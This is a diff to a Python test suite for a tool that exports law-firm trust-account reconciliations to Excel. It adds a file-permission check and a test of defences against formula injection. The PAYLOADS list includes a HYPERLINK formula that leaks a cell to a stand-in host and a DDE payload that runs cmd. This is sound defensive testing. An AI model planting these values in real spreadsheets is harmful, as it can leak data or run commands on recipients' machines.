@@ -102,6 +102,9 @@ def test_totals_are_formulas_and_equal_the_engine(rec, tmp_path):
 
 
 def test_same_period_twice_gives_the_same_file(rec, tmp_path):
+    import stat
+
+    assert stat.S_IMODE(write_workbook(rec, tmp_path / "m.xlsx").stat().st_mode) == 0o600  # names clients
     a = write_workbook(rec, tmp_path / "a.xlsx").read_bytes()
     b = write_workbook(rec, tmp_path / "b.xlsx").read_bytes()
     assert a == b
@@ -150,3 +153,51 @@ def test_awkward_text_survives_and_large_sheets_read_back(tmp_path):
     assert sum(money(r[6]) for r in rows[1:-1]) == sum((b.amount for b in rec.bank_lines), D("0"))
     assert rows[-1][6] == f"=SUM(G2:G{len(rows) - 1})"
     assert isinstance(rows[1][1], dt.datetime) and rows[1][1].date() == rec.bank_lines[0].date
+
+
+PAYLOADS = ('=HYPERLINK("http://x.example/?leak="&A1,"click")', "=1+1", "+1-2", "-3+4", "@SUM(A1:A9)",
+            "\t=cmd|' /C calc'!A0", "\r=2*3")
+
+
+def test_no_text_from_outside_becomes_a_formula_in_either_writer(rec, tmp_path):
+    """Every text field of the reconciliation carries a formula-like payload (a payee, a memo, a check number,
+    client and matter names, a finding, the firm and account, the sign-off's names, note and resolutions):
+    none becomes a formula, each reads back as the text it was; the workbook's own formulas stay formulas."""
+    from dataclasses import replace
+
+    from app.reconcile import SignOff
+
+    def p(n: int) -> str:
+        return PAYLOADS[n % len(PAYLOADS)]
+
+    hostile = replace(
+        rec, firm=p(0), account=p(1),
+        bank_lines=tuple(replace(b, payee=p(i), memo=p(i + 1), check_number=p(i + 2))
+                         for i, b in enumerate(rec.bank_lines)),
+        journal=tuple(replace(t, description=p(i), confirmation=p(i + 3)) for i, t in enumerate(rec.journal)),
+        client_ledgers=tuple(replace(c, client_name=p(i), matter_label=p(i + 1))
+                             for i, c in enumerate(rec.client_ledgers)),
+        findings=tuple(replace(f, message=p(i), client=p(i + 2)) for i, f in enumerate(rec.findings)),
+        signoff=SignOff(p(0), p(1), dt.date(2026, 11, 5), note=p(2), report_digest="d" * 64),
+        resolutions=tuple((key, p(i)) for i, (key, _f) in enumerate(rec.open_items)),
+    )
+    wb = openpyxl.load_workbook(write_workbook(hostile, tmp_path / "hostile.xlsx"))
+    formulas, texts = [], set()
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for c in row:
+                if c.data_type == "f":
+                    formulas.append(str(c.value))
+                elif isinstance(c.value, str):
+                    texts.add(c.value)
+    assert formulas, "the workbook's own totals and checks are formulas"
+    for f in formulas:  # only the workbook's own: sums, differences, the result check
+        assert f.startswith(("=SUM(", "=SUMIF(", "=-SUMIF(", "=B", "=C", "=E", "='Trust journal'!", "='Client ledgers'!",
+                             "=IF(AND(ROUND(")), f
+        assert "HYPERLINK" not in f and "cmd" not in f and "@SUM" not in f
+    def bare(text: str) -> str:  # XML turns a carriage return into a line feed: compare the rest
+        return text.replace("\r", "").replace("\n", "").replace("\t", "")
+
+    stripped = {bare(t) for t in texts}
+    for payload in PAYLOADS:
+        assert bare(payload) in stripped, payload
